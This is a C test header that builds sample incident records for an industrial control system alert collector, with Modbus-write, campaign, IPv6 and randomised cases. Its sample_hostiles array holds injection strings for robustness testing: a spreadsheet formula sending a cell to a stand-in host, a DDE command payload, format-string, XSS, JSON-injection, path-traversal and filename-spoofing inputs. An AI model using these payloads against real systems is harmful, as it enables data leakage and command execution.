#ifndef TESTS_RECORDS_INCIDENTS_H
#define TESTS_RECORDS_INCIDENTS_H
/*
 * Incidents for tests of what is made of them: one of each class and status, an empty one, a full
 * one, hostile ones, and as many more as wanted, put together by a generator with a seed. The same
 * number is always the same incident.
 */
#include <stdio.h>
#include <string.h>

#include "collector/incident.h"
#include "collector/record.h"

enum sample {
	SAMPLE_EMPTY, /* nothing but its id and issuer */
	SAMPLE_CLASS, /* and the next ones: one of each class */
	SAMPLE_STATUS = SAMPLE_CLASS + INCIDENT_CLASSES,
	SAMPLE_SEVERITY = SAMPLE_STATUS + INCIDENT_STATUSES,
	SAMPLE_TLP = SAMPLE_SEVERITY + 5,
	SAMPLE_CAMPAIGN = SAMPLE_TLP + 5,
	SAMPLE_LAYER2,
	SAMPLE_IPV6,
	SAMPLE_NOTIFIED,
	SAMPLE_FULL,	      /* each array is full, each text as long as it may be */
	SAMPLE_HOSTILE,	      /* and the next ones: each hostile text in every member */
	SAMPLE_HOSTILES = 12, /* how many of them */
	SAMPLE_RANDOM = SAMPLE_HOSTILE + SAMPLE_HOSTILES,
	SAMPLES = SAMPLE_RANDOM + 40
};

/* 2026-11-20T02:14:07.512345678Z. */
#define SAMPLE_TIME   UINT64_C(1795140847512345678)
#define SAMPLE_SECOND UINT64_C(1000000000)

static const struct record_recipient sample_recipients[] = {
	{ "cert.example.jp", "Example National CERT (JP)", "irt@cert.example.jp" },
	{ "cert.example.th", "Example National CERT (TH)", NULL },
};
static const char *const sample_languages[] = { "ja", NULL };
static const struct record_party sample_party = {
	.fqdn = "csirt.example.sg",
	.name = "Example National CSIRT",
	.email = "soc@csirt.example.sg",
	.telephone = "+65 5550 0100",
	.timezone = "+08:00",
	.operator_name = "Example Water Works",
	.languages = sample_languages,
};

#define SAMPLE_SET(to, ...) ((void)snprintf((to), sizeof(to), __VA_ARGS__))

/* Each is bytes: UTF-8 of some, not of others, whatever the contract of struct incident says. */
static const struct {
	const char *s;
	size_t n;
} sample_hostiles[SAMPLE_HOSTILES] = {
#define HOSTILE(s)                                                                                 \
	{                                                                                          \
		s, sizeof(s) - 1                                                                   \
	}
	HOSTILE("\x01\x02\x1b[31;1m\x07\b\r\n\t\x7f"),
	HOSTILE("\xff\xfe\x80\xc0\xaf\xed\xa0\x80\xf5\x80\x80\x80"),
	HOSTILE("\xe3\x83"), /* the beginning of a character, at the end too */
	HOSTILE("\xe2\x80\xae"
		"gpj.exe"
		"\xe2\x80\x8f\xe2\x81\xa6"),
	HOSTILE("\",\"severity\":\"info\",\"x\":{\"\\u0000\\\"}]}"),
	HOSTILE("=HYPERLINK(\"http://example.test/?\"&A1,\"open\")"),
	HOSTILE("@SUM(1+1)*cmd|' /C calc'!A0"),
	HOSTILE("%s%n%n%x%99999d%p"),
	HOSTILE("<script>alert(1)</script>&amp;&#x41;]]>"),
	HOSTILE("a|b=c\\d\ne]f\"g|h\\"),
	HOSTILE("../../../etc/passwd\\..\\..\\x"),
	HOSTILE("\xe2\x80\xa8\xe2\x80\xa9\xef\xbb\xbf\xef\xbf\xbf\xf0\x9f\x92\xa3{title}"),
#undef HOSTILE
};

/* Repeats the bytes until the text is full: without regard to characters. */
static inline void sample_fill(char *to, size_t room, const char *s, size_t n)
{
	for (size_t at = 0; at + 1 < room; at++)
		to[at] = s[at % n];
	to[room - 1] = '\0';
}

static inline void sample_end(struct incident_end *e, const char *name, uint8_t last, uint16_t port)
{
	const uint8_t mac[] = { 0x00, 0x80, 0xf4, 0x0a, 0x11, last };

	*e = (struct incident_end){ .nips = 1, .has_mac = 1, .port = port, .vlan = 10, .level = 1 };
	SAMPLE_SET(e->name, "%s", name);
	e->ips[0].n = 4;
	memcpy(e->ips[0].b, (const uint8_t[]){ 10, 10, 1, last }, 4);
	memcpy(e->mac, mac, 6);
}

static inline void sample_plain_lists(struct incident *i)
{
	i->nrules = 1;
	SAMPLE_SET(i->rules[0].id, "modbus-write-unauthorised");
	SAMPLE_SET(i->rules[0].version, "1");
	SAMPLE_SET(i->rules[0].title, "%s", i->title);
	i->rules[0].priority = 3;
	i->rules[0].count = 42;
	i->ntechniques = 2;
	SAMPLE_SET(i->techniques[0].id, "T1692.001");
	SAMPLE_SET(i->techniques[0].name, "Unauthorized Message: Command Message");
	SAMPLE_SET(i->techniques[0].tactic, "impair-process-control");
	SAMPLE_SET(i->techniques[1].id, "T0836");
	SAMPLE_SET(i->techniques[1].name, "Modify Parameter");
	SAMPLE_SET(i->techniques[1].tactic, "impair-process-control");
	i->nstages = 1;
	i->stages[0] = (struct incident_stage){
		.class = i->class, .first = i->first, .last = i->last, .count = 42
	};
	SAMPLE_SET(i->stages[0].rule, "modbus-write-unauthorised");
	i->nvalues = 2;
	SAMPLE_SET(i->values[0], "1500");
	SAMPLE_SET(i->values[1], "65535");
	i->nsensors = 1;
	SAMPLE_SET(i->sensors[0], "plant-1");
	i->nevidence = 1;
	SAMPLE_SET(i->evidence[0].sensor, "plant-1");
	SAMPLE_SET(i->evidence[0].capture, "attack-write.pcap");
	i->evidence[0].epoch = UINT64_C(0x8123456789abcdef);
	i->evidence[0].seq = 7;
	i->evidence[0].time = i->first;
	i->evidence[0].nframes = 1;
	i->evidence[0].frames[0] = 186;
	i->nhistory = 1;
	i->history[0] = (struct incident_history){ .time = i->detected, .action = ACTION_OPENED };
	SAMPLE_SET(i->history[0].who, "collector");
	SAMPLE_SET(i->history[0].text, "Opened by correlation");
	SAMPLE_SET(i->history[0].message, "history.opened");
}

/* A write to a PLC, seen by one sensor. */
static inline void sample_plain(struct incident *i, unsigned number)
{
	memset(i, 0, sizeof(*i));
	SAMPLE_SET(i->id, "waterworks-20261120-%04u", number);
	SAMPLE_SET(i->issuer, "csirt.example.sg");
	SAMPLE_SET(i->site, "Example Water Works");
	SAMPLE_SET(i->family, "modbus-write");
	SAMPLE_SET(i->title, "Modbus write from a host that may not write");
	SAMPLE_SET(i->message, "rule.modbus-write-unauthorised");
	SAMPLE_SET(i->summary,
		   "10.10.1.66 writes hr:3 (count 1) on plc3, unit 1, with Write Single "
		   "Register: this host may not write to controllers");
	SAMPLE_SET(i->category, "rsit:intrusions=\"system-compromise\"");
	SAMPLE_SET(i->impact, "cps-manipulation");
	SAMPLE_SET(i->protocol, "modbus");
	SAMPLE_SET(i->function, "Write Single Register");
	SAMPLE_SET(i->object, "hr:3");
	SAMPLE_SET(i->device, "1");
	SAMPLE_SET(i->tlp, "AMBER");
	SAMPLE_SET(i->sector, "water");
	SAMPLE_SET(i->country, "SG");
	SAMPLE_SET(i->clock_sync, "yes");
	i->clock_error = 1500000;
	i->revision = 1;
	i->severity = i->base_severity = 3;
	i->confidence = 90;
	i->class = INCIDENT_WRITE;
	i->completion = COMPLETION_SUCCEEDED;
	i->function_code = 6;
	sample_end(&i->source, "", 66, 40882);
	i->source.level = -1;
	sample_end(&i->target, "plc3", 13, 502);
	SAMPLE_SET(i->target.vendor, "Phoenix Contact");
	SAMPLE_SET(i->target.model, "ILC 191 ETH");
	SAMPLE_SET(i->target.firmware, "4.42");
	SAMPLE_SET(i->target.role, "plc");
	SAMPLE_SET(i->target.zone, "control");
	i->first = i->detected = SAMPLE_TIME;
	i->last = SAMPLE_TIME + 334 * SAMPLE_SECOND;
	i->received = SAMPLE_TIME + SAMPLE_SECOND;
	i->written = SAMPLE_TIME + 335 * SAMPLE_SECOND;
	i->count = 42;
	memset(i->dedup, 0xa5, sizeof(i->dedup));
	sample_plain_lists(i);
}

static inline void sample_class(struct incident *i, enum incident_class class)
{
	static const char *const impacts[INCIDENT_CLASSES] = { "unknown",
							       "unknown",
							       "unknown",
							       "policy",
							       "cps-manipulation",
							       "integrity-configuration",
							       "availability-system" };

	i->class = i->stages[0].class = class;
	SAMPLE_SET(i->impact, "%s", impacts[class]);
	i->completion = (enum incident_completion)(class % 3);
}

static inline void sample_status(struct incident *i, enum incident_status status)
{
	i->status = status;
	i->aware = status == INCIDENT_NEW ? 0 : i->detected + 1000 * SAMPLE_SECOND;
	i->resolved = incident_status_final(status) ? i->detected + 9000 * SAMPLE_SECOND : 0;
	i->revision = 3;
	if (status == INCIDENT_NEW)
		return;
	SAMPLE_SET(i->assignee, "shift engineer");
	SAMPLE_SET(i->report_stage, "early-warning");
	SAMPLE_SET(i->malicious, "yes");
	SAMPLE_SET(i->cross_border, "unknown");
	i->nisc = (uint8_t)status;
	i->nciss = (uint16_t)(status * 250 + 1);
	i->nrelated = 1;
	SAMPLE_SET(i->related[0].id, "waterworks-20261119-0004");
	SAMPLE_SET(i->related[0].issuer, "csirt.example.sg");
	i->related[0].relation = status == INCIDENT_DUPLICATE ? RELATED_DUPLICATE_OF : RELATED_CASE;
	i->nhistory = 2;
	i->history[1] = (struct incident_history){ .time = i->aware, .action = ACTION_STATUS };
	SAMPLE_SET(i->history[1].who, "operator");
	SAMPLE_SET(i->history[1].text, "%s", incident_status_name(status));
}

/* One host looks for many. */
static inline void sample_campaign(struct incident *i)
{
	sample_class(i, INCIDENT_DISCOVERY);
	memset(&i->target, 0, sizeof(i->target));
	i->target.level = -1;
	i->protocol[0] = i->function[0] = i->object[0] = i->device[0] = '\0';
	i->function_code = UINT32_MAX;
	i->nvalues = 0;
	i->ntargets = INCIDENT_TARGETS;
	for (unsigned k = 0; k < INCIDENT_TARGETS; k++)
		sample_end(&i->targets[k], "", (uint8_t)(100 + k), 0);
	i->more_targets = 192;
}

static inline void sample_layer2(struct incident *i)
{
	SAMPLE_SET(i->protocol, "goose");
	SAMPLE_SET(i->device, "AA1J1Q01A2LD0/LLN0$GO$gcb01");
	i->function_code = UINT32_MAX;
	i->source.nips = i->target.nips = 0;
	i->source.port = i->target.port = 0;
	i->target.name[0] = '\0';
	memcpy(i->target.mac, (const uint8_t[]){ 0x01, 0x0c, 0xcd, 0x01, 0x00, 0x01 }, 6);
}

static inline void sample_ipv6(struct incident *i)
{
	static const uint8_t ip[16] = { 0xfd, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x13 };

	i->target.nips = 2;
	i->target.ips[1].n = 16;
	memcpy(i->target.ips[1].b, ip, 16);
	i->source.ips[0].n = 16;
	memcpy(i->source.ips[0].b, ip, 15);
	i->source.ips[0].b[15] = 0x66;
}

/* What another party told us, and we told others. */
static inline void sample_notified(struct incident *i)
{
	static const uint8_t relations[] = { RELATED_BEFORE,	   RELATED_CASE,
					     RELATED_DUPLICATE_OF, RELATED_MERGED,
					     RELATED_ALTERNATIVE,  RELATED_NOTIFIED };

	i->nrelated = sizeof(relations);
	for (unsigned k = 0; k < i->nrelated; k++) {
		SAMPLE_SET(i->related[k].id, "JP-2026-%05u", 98765 + k);
		SAMPLE_SET(i->related[k].issuer, "cert.example.jp");
		i->related[k].relation = relations[k];
	}
	i->nhistory = ACTION_ACTIONS;
	for (unsigned k = 0; k < ACTION_ACTIONS; k++) {
		i->history[k] = (struct incident_history){ .time = i->detected + k * SAMPLE_SECOND,
							   .action = (uint8_t)k };
		SAMPLE_SET(i->history[k].who, "cert.example.jp");
		SAMPLE_SET(i->history[k].text, "What was done, number %u", k);
	}
	i->nevidence = 2;
	i->evidence[1] = i->evidence[0];
	SAMPLE_SET(i->evidence[1].file, "%s-01.pcap", i->id);
	i->evidence[1].file_size = 18432;
	memset(i->evidence[1].sha256, 0x5a, 32);
}

static inline void sample_fill_end(struct incident_end *e, const char *s, size_t n)
{
	sample_fill(e->name, sizeof(e->name), s, n);
	sample_fill(e->vendor, sizeof(e->vendor), s, n);
	sample_fill(e->model, sizeof(e->model), s, n);
	sample_fill(e->firmware, sizeof(e->firmware), s, n);
	sample_fill(e->role, sizeof(e->role), s, n);
	sample_fill(e->zone, sizeof(e->zone), s, n);
	for (unsigned k = 0; k < INCIDENT_IPS; k++) {
		e->ips[k].n = k % 2 == 0 ? 4 : 16;
		memset(e->ips[k].b, (int)(0x10 + k), 16);
	}
	e->nips = INCIDENT_IPS;
	e->has_mac = 1;
	e->port = UINT16_MAX;
	e->vlan = 4094;
}

static inline void sample_fill_lists(struct incident *i, const char *s, size_t n)
{
	i->nrules = INCIDENT_RULES, i->ntechniques = INCIDENT_TECHNIQUES;
	for (unsigned k = 0; k < INCIDENT_RULES; k++) {
		sample_fill(i->rules[k].id, sizeof(i->rules[k].id), s, n);
		sample_fill(i->rules[k].version, sizeof(i->rules[k].version), s, n);
		sample_fill(i->rules[k].title, sizeof(i->rules[k].title), s, n);
		i->rules[k].count = UINT64_MAX;
		i->rules[k].priority = k;
	}
	for (unsigned k = 0; k < INCIDENT_TECHNIQUES; k++) {
		SAMPLE_SET(i->techniques[k].id, "T%04u.%03u", 800 + k, k);
		sample_fill(i->techniques[k].name, sizeof(i->techniques[k].name), s, n);
		sample_fill(i->techniques[k].tactic, sizeof(i->techniques[k].tactic), s, n);
		i->techniques[k].first = i->first;
	}
	i->nstages = INCIDENT_STAGES, i->nvalues = INCIDENT_VALUES, i->nsensors = INCIDENT_SENSORS;
	for (unsigned k = 0; k < INCIDENT_STAGES; k++) {
		i->stages[k].class = (enum incident_class)(k % INCIDENT_CLASSES);
		i->stages[k].first = i->first, i->stages[k].last = i->last;
		sample_fill(i->stages[k].rule, sizeof(i->stages[k].rule), s, n);
	}
	for (unsigned k = 0; k < INCIDENT_VALUES; k++)
		sample_fill(i->values[k], sizeof(i->values[k]), s, n);
	for (unsigned k = 0; k < INCIDENT_SENSORS; k++)
		sample_fill(i->sensors[k], sizeof(i->sensors[k]), s, n);
}

static inline void sample_fill_more(struct incident *i, const char *s, size_t n)
{
	i->nevidence = INCIDENT_EVIDENCE, i->nrelated = INCIDENT_RELATED;
	for (unsigned k = 0; k < INCIDENT_EVIDENCE; k++) {
		sample_fill(i->evidence[k].sensor, sizeof(i->evidence[k].sensor), s, n);
		sample_fill(i->evidence[k].capture, sizeof(i->evidence[k].capture), s, n);
		if (k % 2 == 0)
			sample_fill(i->evidence[k].file, sizeof(i->evidence[k].file), s, n);
		i->evidence[k].time = i->first + k;
		i->evidence[k].epoch = i->evidence[k].seq = i->evidence[k].file_size = UINT64_MAX;
		i->evidence[k].nframes = INCIDENT_FRAMES;
		for (unsigned f = 0; f < INCIDENT_FRAMES; f++)
			i->evidence[k].frames[f] = UINT64_MAX - f;
		i->evidence[k].more_frames = UINT64_MAX;
	}
	for (unsigned k = 0; k < INCIDENT_RELATED; k++) {
		sample_fill(i->related[k].id, sizeof(i->related[k].id), s, n);
		sample_fill(i->related[k].issuer, sizeof(i->related[k].issuer), s, n);
		i->related[k].relation = (uint8_t)(k % (RELATED_NOTIFIED + 1));
	}
	i->nhistory = INCIDENT_HISTORY;
	for (unsigned k = 0; k < INCIDENT_HISTORY; k++) {
		i->history[k].time = i->first + k * SAMPLE_SECOND;
		i->history[k].action = (uint8_t)(k % ACTION_ACTIONS);
		sample_fill(i->history[k].who, sizeof(i->history[k].who), s, n);
		sample_fill(i->history[k].text, sizeof(i->history[k].text), s, n);
		i->history[k].message[0] = '\0';
	}
	i->ntargets = INCIDENT_TARGETS;
	for (unsigned k = 0; k < INCIDENT_TARGETS; k++)
		sample_fill_end(&i->targets[k], s, n);
	i->more_targets = i->more_values = i->more_evidence = i->more_history = UINT64_MAX;
}

/* Everything full, all texts but the incident's own id and issuer of these bytes. */
static inline void sample_full(struct incident *i, const char *s, size_t n)
{
	sample_status(i, INCIDENT_IN_PROGRESS);
	sample_fill(i->site, sizeof(i->site), s, n);
	sample_fill(i->family, sizeof(i->family), s, n);
	sample_fill(i->title, sizeof(i->title), s, n);
	sample_fill(i->summary, sizeof(i->summary), s, n);
	sample_fill(i->category, sizeof(i->category), s, n);
	sample_fill(i->impact, sizeof(i->impact), s, n);
	sample_fill(i->protocol, sizeof(i->protocol), s, n);
	sample_fill(i->function, sizeof(i->function), s, n);
	sample_fill(i->object, sizeof(i->object), s, n);
	sample_fill(i->device, sizeof(i->device), s, n);
	sample_fill(i->message, sizeof(i->message), s, n);
	sample_fill(i->assignee, sizeof(i->assignee), s, n);
	sample_fill(i->sector, sizeof(i->sector), s, n);
	sample_fill(i->country, sizeof(i->country), s, n);
	sample_fill(i->tlp, sizeof(i->tlp), s, n);
	sample_fill(i->clock_sync, sizeof(i->clock_sync), s, n);
	sample_fill(i->report_stage, sizeof(i->report_stage), s, n);
	sample_fill(i->malicious, sizeof(i->malicious), s, n);
	sample_fill(i->cross_border, sizeof(i->cross_border), s, n);
	sample_fill_end(&i->source, s, n);
	sample_fill_end(&i->target, s, n);
	sample_fill_lists(i, s, n);
	sample_fill_more(i, s, n);
	i->clock_error = i->count = UINT64_MAX;
	i->confidence = 100;
}

static inline uint32_t sample_dice(uint64_t *state, uint32_t sides)
{
	*state = *state * UINT64_C(6364136223846793005) + UINT64_C(1442695040888963407);
	return (uint32_t)(*state >> 33) % sides;
}

static inline void sample_random(struct incident *i, unsigned seed)
{
	static const char *const protocols[] = { "modbus", "umas", "goose", "",
						 "mbrtu",  "arp",  "new" };
	static const char *const roles[] = { "plc", "hmi", "historian", "switch", "", "lift" };
	static const char *const sectors[] = { "water", "electricity", "rail", "", "space" };
	static const char *const tlps[] = { "CLEAR", "GREEN", "AMBER", "AMBER+STRICT", "RED", "" };
	uint64_t s = seed * UINT64_C(0x9e3779b97f4a7c15) + 1;

	sample_class(i, (enum incident_class)sample_dice(&s, INCIDENT_CLASSES));
	sample_status(i, (enum incident_status)sample_dice(&s, INCIDENT_STATUSES));
	i->severity = sample_dice(&s, 5);
	i->base_severity = sample_dice(&s, i->severity + 1);
	i->confidence = sample_dice(&s, 101);
	i->revision = 1 + sample_dice(&s, 500);
	i->count = 1 + sample_dice(&s, 1 << 30);
	SAMPLE_SET(i->protocol, "%s", protocols[sample_dice(&s, 7)]);
	SAMPLE_SET(i->target.role, "%s", roles[sample_dice(&s, 6)]);
	SAMPLE_SET(i->sector, "%s", sectors[sample_dice(&s, 5)]);
	SAMPLE_SET(i->tlp, "%s", tlps[sample_dice(&s, 6)]);
	if (sample_dice(&s, 4) == 0)
		sample_campaign(i);
	else if (sample_dice(&s, 4) == 0)
		sample_ipv6(i);
	if (sample_dice(&s, 3) == 0)
		sample_notified(i);
	if (sample_dice(&s, 3) == 0)
		i->source.nips = i->source.has_mac = 0;
	i->nvalues = sample_dice(&s, 3);
	i->ntechniques = sample_dice(&s, 3);
	i->nsensors = sample_dice(&s, 2);
	i->function_code = sample_dice(&s, 2) == 0 ? UINT32_MAX : sample_dice(&s, 256);
}

/* Makes number k of SAMPLES. */
static inline void sample_incident(struct incident *i, unsigned k)
{
	static const char *const tlps[] = { "CLEAR", "GREEN", "AMBER", "AMBER+STRICT", "RED" };

	sample_plain(i, k + 1);
	if (k == SAMPLE_EMPTY) {
		memset(i, 0, sizeof(*i));
		SAMPLE_SET(i->id, "waterworks-20261120-0001");
		SAMPLE_SET(i->issuer, "csirt.example.sg");
	} else if (k < SAMPLE_STATUS) {
		sample_class(i, (enum incident_class)(k - SAMPLE_CLASS));
	} else if (k < SAMPLE_SEVERITY) {
		sample_status(i, (enum incident_status)(k - SAMPLE_STATUS));
	} else if (k < SAMPLE_TLP) {
		i->severity = k - SAMPLE_SEVERITY;
	} else if (k < SAMPLE_CAMPAIGN) {
		SAMPLE_SET(i->tlp, "%s", tlps[k - SAMPLE_TLP]);
	} else if (k == SAMPLE_CAMPAIGN) {
		sample_campaign(i);
	} else if (k == SAMPLE_LAYER2) {
		sample_layer2(i);
	} else if (k == SAMPLE_IPV6) {
		sample_ipv6(i);
	} else if (k == SAMPLE_NOTIFIED) {
		sample_notified(i);
	} else if (k == SAMPLE_FULL) {
		sample_full(i, "Full of text. ", 14);
	} else if (k < SAMPLE_RANDOM) {
		sample_full(i, sample_hostiles[k - SAMPLE_HOSTILE].s,
			    sample_hostiles[k - SAMPLE_HOSTILE].n);
	} else {
		sample_random(i, k);
	}
}

#endif
